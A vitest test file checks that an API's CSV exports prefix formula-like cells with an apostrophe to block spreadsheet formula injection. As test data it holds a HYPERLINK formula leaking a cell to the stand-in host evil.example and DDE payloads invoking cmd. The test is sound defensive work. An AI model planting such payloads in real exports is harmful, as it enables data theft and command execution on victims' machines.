import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repoRoot } from '../../api/src/paths.js';
import { spreadsheetSafe } from '../../api/src/modules/core/csv-cells.js';
import { createTestApp, type TestApp } from '../support/test-app.js';
import { signedIn } from '../support/sign-in.js';

/**
 * No CSV the API writes hands a spreadsheet program a formula: an outside probe named an
 * organisation `=HYPERLINK(…)` through createOrganisation and exportCsv gave it to Excel as a
 * live formula (OWASP "CSV Injection"). Phone numbers keep their stored form.
 */
const FIXTURE = path.join(repoRoot, 'tests', 'fixtures', 'editing');
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")';

let t: TestApp;
let editor: Record<string, string>;

beforeAll(async () => {
  t = await createTestApp({ dataset: FIXTURE });
  editor = await signedIn(t, 'EDITOR');
  const made = await Promise.all([
    t.gql(
      'mutation($p: CreateOrganisationInput!) { createOrganisation(properties: $p) { id } }',
      { p: { name: FORMULA, kind: 'MUNICIPAL_UNIT', sector: 'MUNICIPALITY', municipalityCode: '707' } },
      editor,
    ),
    t.gql(
      'mutation($p: CreateGroupInput!) { createGroup(properties: $p) { id } }',
      { p: { name: `@SUM(1+1)*cmd|' /C calc'!A0`, kind: 'IMPLEMENTATION_GROUP' } },
      editor,
    ),
    t.gql(
      'mutation($p: CreatePersonInput!) { createPerson(properties: $p) { id } }',
      { p: { name: 'Tekla Telefon', phone: '+45 12 34 56 78', title: '-Leder' } },
      editor,
    ),
  ]);
  expect(made.map((m) => m.errors)).toEqual([undefined, undefined, undefined]);
});
afterAll(() => t.close());

describe('CSV exports', () => {
  it("put a ' before a cell a spreadsheet would run, in exportCsv", async () => {
    const orgs = await t.gql<{ exportCsv: string }>('{ exportCsv(label: Organisation) }', {}, editor);
    expect(orgs.data!.exportCsv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik her"")"`);
    expect(orgs.data!.exportCsv).not.toMatch(/,"?=HYPERLINK/);
    const people = await t.gql<{ exportCsv: string }>('{ exportCsv(label: Person) }', {}, editor);
    const line = people.data!.exportCsv.split('\n').find((l) => l.includes('Tekla Telefon'))!;
    expect(line).toContain(',+45 12 34 56 78,');
    expect(line).toContain(",'-Leder");
  });

  it('in the gap report too', async () => {
    const gaps = await t.gql<{ gapsExport: { content: string } }>('query { gapsExport(scope: {kind: EVERYTHING}, format: CSV) { content } }', {}, editor);
    expect(gaps.errors).toBeUndefined();
    const content = gaps.data!.gapsExport.content;
    expect(content).toContain(`'@SUM(1+1)`);
    expect(content).not.toMatch(/(^|,|")@SUM/m);
  });

  it('leave other text, phone numbers and signed numbers as they are', () => {
    expect(['Aarhus Kommune', '+45 12 34 56 78', '-3', '(+45) 87 00 00 00', 'a=b'].map(spreadsheetSafe)).toEqual([
      'Aarhus Kommune',
      '+45 12 34 56 78',
      '-3',
      '(+45) 87 00 00 00',
      'a=b',
    ]);
    expect(['=1+1', '+cmd|x!A0', '-2+3*SUM(A1)', '@A1', '\t=1', '\r=1'].map(spreadsheetSafe)).toEqual([
      "'=1+1",
      "'+cmd|x!A0",
      "'-2+3*SUM(A1)",
      "'@A1",
      "'\t=1",
      "'\r=1",
    ]);
  });
});
